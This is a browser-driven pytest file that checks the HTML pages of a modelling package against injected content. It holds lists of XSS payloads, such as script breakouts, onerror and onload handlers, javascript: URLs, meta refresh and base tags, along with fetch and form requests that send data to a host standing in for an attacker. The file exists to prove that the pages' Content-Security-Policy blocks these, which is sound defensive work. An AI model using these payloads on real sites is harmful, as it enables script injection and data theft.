"""Every page lets nothing in: no network, no script but ours, and names stay text."""

import base64
import hashlib
import json
import re
import shutil
import threading
import time
from contextlib import contextmanager
from datetime import date
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import folium
import pandas as pd
import pytest

import spreadnet
from spreadnet.outputs.map.region_map import map_html
from spreadnet.outputs.safe import clean_text, for_script, short_text

DEMO = Path(__file__).parents[2] / "demo_region"
PAGES = ("map.html", "plan.html", "hindcast.html", "survey.html")
HOSTILE = (
    "</script><script>window.ran=1</script>",
    "<img src=http://nowhere.invalid/a onerror=window.ran=2>",
    "javascript:window.ran=3",
    "\"' onmouseover='window.ran=4' onfocus=\"window.ran=4",
    "</style><style>main{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://nowhere.invalid/b'>",
    "<base href=http://nowhere.invalid/>",
    "<svg onload=window.ran=5>",
    "</title></head><!--",
    "${window.ran=6}`+(window.ran=7)+`{{ 7*7 }}{% raw %}\\u003cb",
)
REGION = " ".join(HOSTILE[:4])
WARD = "Velk <b onclick=window.ran=8>Ward</b>"
LOADS = {"src", "srcset", "href", "xlink:href", "action", "formaction", "data", "poster", "ping"}
# What a page would do if somebody's text got into it as it is.
INTRUDER = """
<img src="http://HOST/image" onerror="window.ran=1">
<img src="data:image/png;base64,AA==" onerror="window.ran=2">
<script>window.ran=3; fetch("http://HOST/fetch"); new Image().src="http://HOST/made"</script>
<script src="http://HOST/script"></script>
<script type="module">import "http://HOST/module"</script>
<link rel="stylesheet" href="http://HOST/sheet"><link rel="icon" href="http://HOST/icon">
<style>@import url("http://HOST/import"); body { background: url("http://HOST/ground") }</style>
<div style="background: url('http://HOST/attribute')">&nbsp;</div>
<iframe name="made" src="http://HOST/frame"></iframe>
<iframe srcdoc="<script>top.ran=4</script>"></iframe>
<object data="http://HOST/object"></object><embed src="http://HOST/embed">
<video src="http://HOST/video" autoplay></video><audio src="http://HOST/audio" autoplay></audio>
<svg onload="window.ran=5"><image href="http://HOST/drawing"/></svg>
<b id="handler" onclick="window.ran=6">b</b><a id="jump" href="javascript:window.ran=7">j</a>
<form id="form" action="http://HOST/form" target="made"><input name="a"></form>
<base href="http://HOST/base/"><img src="relative">
"""


@pytest.fixture(scope="module")
def hostile_pages(tmp_path_factory):
    """Every page written for a region whose every name is hostile, with the names it shows."""
    folder = tmp_path_factory.mktemp("hostile") / "region"
    shutil.copytree(DEMO, folder)
    lakes = json.loads((folder / "lakes.geojson").read_text("utf-8"))
    for k, lake in enumerate(lakes["features"]):
        lake["properties"]["name"] = HOSTILE[k % len(HOSTILE)]
    (folder / "lakes.geojson").write_text(json.dumps(lakes), encoding="utf-8")
    landings = pd.read_csv(folder / "landings.csv", dtype=str, keep_default_na=False)
    landings["name"] = [HOSTILE[k % len(HOSTILE)] for k in range(len(landings))]
    landings["jurisdiction"] = landings["jurisdiction"].replace("Velk Ward", WARD)
    landings.to_csv(folder / "landings.csv", index=False)
    settings = (folder / "region.toml").read_text("utf-8")
    settings = settings.replace('"Velk Ward"', json.dumps(WARD))
    settings = settings.replace('"Ovrin Shelf"', json.dumps(REGION))
    (folder / "region.toml").write_text(settings, encoding="utf-8")
    region = spreadnet.read_region(folder)
    out = folder.parent
    plan = spreadnet.season_plan(region, draws=2)
    files = spreadnet.write_results(spreadnet.assess(region, draws=2), out / "run", plan=plan)
    files += spreadnet.write_plan(plan, out / "plan")
    foretold = spreadnet.hindcast(region, from_year=2018, draws=2)
    files += spreadnet.write_hindcast(foretold, out / "hindcast", made_on=date(2027, 3, 1))
    files += spreadnet.write_survey(spreadnet.survey_next(region), region, out / "survey")
    pages = {file.name: file.read_text("utf-8") for file in files if file.suffix == ".html"}
    planned = [REGION, *plan.table["landing"].unique()]
    shown = {"map.html": [REGION, *HOSTILE], "plan.html": planned}
    shown |= {"hindcast.html": [REGION], "survey.html": [REGION]}
    assert pages.keys() == shown.keys()
    return {name: (page, shown[name]) for name, page in pages.items()}


class Read(HTMLParser):
    """What stands in a page: elements with attributes in order, text, text of raw elements."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.elements, self.text, self.raw, self._open = [], [], [], None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag in ("script", "style"):
            self.raw.append((tag, dict(attrs), ""))
            self._open = tag

    def handle_endtag(self, tag):
        self._open = None

    def handle_data(self, data):
        if self._open:
            tag, attributes, text = self.raw[-1]
            self.raw[-1] = tag, attributes, text + data
        else:
            self.text.append(data)


def policy_of(read):
    names = [tag for tag, _ in read.elements]
    tag, attributes = read.elements[names.index("head") + 1]
    assert tag == "meta" and attributes["http-equiv"] == "Content-Security-Policy"
    rules = [rule.split() for rule in attributes["content"].split("; ")]
    return {name: words for name, *words in rules}


@pytest.mark.parametrize("name", PAGES)
def test_a_policy_stands_first_and_allows_our_own_text_alone(hostile_pages, name):
    read = Read(hostile_pages[name][0])
    rules = policy_of(read)
    assert sum(a.get("http-equiv") is not None for _, a in read.elements) == 1
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == ["'none'"]
    assert set(rules) <= {
        *("default-src", "base-uri", "form-action", "script-src", "style-src", "img-src")
    }
    assert rules.get("img-src", ["data:"]) == ["data:"]
    for tag, rule in (("script", "script-src"), ("style", "style-src")):
        texts = [t for kind, a, t in read.raw if kind == tag and a.get("type") is None]
        digests = [base64.b64encode(hashlib.sha256(t.encode()).digest()).decode() for t in texts]
        assert sorted(rules.get(rule, [])) == sorted(f"'sha256-{one}'" for one in digests)
    data = [a["type"] for kind, a, _ in read.raw if kind == "script" and "type" in a]
    assert set(data) <= {"application/json"}


@pytest.mark.parametrize("name", PAGES)
def test_names_stay_text_and_nothing_is_loaded_or_handled(hostile_pages, name):
    page, shown = hostile_pages[name]
    read = Read(page)
    for tag, attributes in read.elements:
        assert not [key for key in attributes if key.startswith("on") or key == "style"], tag
        loaded = {key: value for key, value in attributes.items() if key in LOADS}
        assert all(re.match(r"#|data:", value) for value in loaded.values()), (tag, loaded)
        assert tag not in {"base", "iframe", "object", "embed", "form", "img", "link", "b"}, tag
    text = " ".join(" ".join(read.text).split())
    data = "".join(t for _, a, t in read.raw if a.get("type") == "application/json")
    for one in shown:
        assert any(found in text for found in (clean_text(one), short_text(one))) or (
            for_script(clean_text(one)) in data
        ), one


def test_styles_of_added_layers_are_allowed_too(sample_region_tables):
    from spreadnet.outputs.map.region_map import Caption, region_map

    words = dict.fromkeys(("region", "title", "made_on", "version", "season", "run"), "x")
    caption = Caption(
        **words,
        **{"seed": 1, "draws": 2, "seasons": 3, "status_through": None, "notes": ()},
        **{"species": {"shell": "a", "weed": "b"}, "cautions": ("c",)},
    )
    region = region_map(*sample_region_tables(20, 20), caption=caption)
    place = {"type": "Point", "coordinates": [-128.0, -41.0]}
    feature = {"type": "Feature", "properties": {"a": "1"}, "geometry": place}
    data = {"type": "FeatureCollection", "features": [feature]}
    folium.GeoJson(data, tooltip=folium.GeoJsonTooltip(["a"])).add_to(region)
    read = Read(map_html(region))
    assert len([1 for kind, _, _ in read.raw if kind == "style"]) == 4
    assert len(policy_of(read)["style-src"]) == 4


@contextmanager
def listening():
    """A server of this machine and the paths that it was asked for."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def intrude(browser, page, path, host):
    """Open a page that somebody's text got into, and use what it brought along."""
    assert page.count("</main>") == 1
    path.write_text(page.replace("</main>", INTRUDER.replace("HOST", host) + "</main>"), "utf-8")
    browser.get_log("browser")
    browser.get(path.as_uri())
    for name in ("handler", "jump"):
        browser.execute_script(f"document.getElementById('{name}').click()")
    browser.execute_script("document.getElementById('form').submit()")
    answer = browser.execute_async_script(
        "const done = arguments[1];"
        "fetch(arguments[0]).then(() => done('sent'), () => done('refused'))",
        f"http://{host}/asked",
    )
    time.sleep(0.5)
    ran = browser.execute_script("return window.ran === undefined ? null : window.ran")
    return ran, answer, [line["message"] for line in browser.get_log("browser")]


@pytest.mark.browser
@pytest.mark.parametrize("name", PAGES)
def test_an_intruder_reaches_nothing_and_runs_nothing(browser, hostile_pages, tmp_path, name):
    page = hostile_pages[name][0]
    with listening() as (host, asked):
        ran, answer, told = intrude(browser, page, tmp_path / "with.html", host)
        assert (ran, answer, asked) == (None, "refused", [])
        assert sum("Content Security Policy" in line for line in told) > 10
        # The same without the policy: this is what it keeps out.
        bare = re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", page)
        ran, _, told = intrude(browser, bare, tmp_path / "without.html", host)
        assert ran is not None
        wanted = {"/image", "/fetch", "/script", "/sheet", "/frame", "/form"}
        end = time.monotonic() + 10
        while time.monotonic() < end and not wanted <= {path.split("?")[0] for path in asked}:
            time.sleep(0.05)
        assert wanted <= {path.split("?")[0] for path in asked}
        assert len(browser.window_handles) == 1  # the tests after this one share the browser
        browser.get("about:blank")


@pytest.mark.browser
@pytest.mark.parametrize("name", PAGES)
def test_a_page_works_within_its_policy(browser, hostile_pages, tmp_path, name):
    path = tmp_path / name
    path.write_text(hostile_pages[name][0], "utf-8")
    browser.get_log("browser")
    browser.get_log("performance")
    browser.get(path.as_uri())
    main = browser.find_element("tag name", "main")
    assert main.is_displayed() and main.size["height"] > 300
    controls = browser.execute_script(
        "const all = [...document.querySelectorAll('button, summary, input, td button')];"
        "for (const one of all) if (one.isConnected) one.click();"
        "return all.length"
    )
    assert controls > 100 if name == "map.html" else controls == 0
    time.sleep(0.5)
    drawn = browser.execute_cdp_cmd("Page.printToPDF", {"printBackground": True})["data"]
    assert len(drawn) > 10_000
    assert browser.execute_script("return window.ran === undefined")
    assert browser.get_log("browser") == []
    events = (json.loads(line["message"])["message"] for line in browser.get_log("performance"))
    sent = [
        event["params"]["request"]["url"]
        for event in events
        if event["method"] == "Network.requestWillBeSent"
    ]
    assert [url for url in sent if not url.startswith(("file:", "data:"))] == []
